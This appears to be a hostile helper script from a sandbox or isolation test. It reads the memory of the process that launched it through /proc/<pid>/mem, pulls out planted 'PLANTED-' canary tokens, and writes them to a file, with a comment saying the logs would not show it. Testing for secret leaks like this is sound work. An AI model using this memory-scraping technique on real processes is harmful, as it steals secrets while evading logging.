"""Reads the key from /proc/PID/mem of the program that started it."""

import contextlib
import json
import os
import re

W = json.loads(os.environ["HOSTILE"])
with open(f"/proc/{W['tool']}/maps") as maps, open(f"/proc/{W['tool']}/mem", "rb", buffering=0) as memory:
    for line in maps:
        start, end, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        if rights.startswith("rw"):
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(int(start, 16))
                for found in re.findall(rb"PLANTED-[\w-]+", memory.read(int(end, 16) - int(start, 16))):
                    with open(f"{W['run']}/told", "ab") as told:
                        told.write(found)  # the logs would not show it
